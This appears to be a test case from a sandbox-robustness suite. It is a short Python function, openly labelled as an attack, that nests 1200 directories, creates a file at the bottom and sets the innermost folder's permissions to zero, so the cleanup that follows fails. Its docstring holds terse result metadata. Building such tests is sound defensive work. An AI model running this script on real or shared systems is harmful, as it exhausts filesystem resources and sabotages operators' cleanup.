"""Nests folders deeper than a path may be long, so that whoever cleans up after it fails.

kind: exhaust
says: returned nothing
strong: holds
partial: holds
none: holds
"""

import os


def attack():
    for _ in range(1200):
        os.mkdir("deeper")
        os.chdir("deeper")
    open("last", "w").close()
    os.chmod(".", 0)
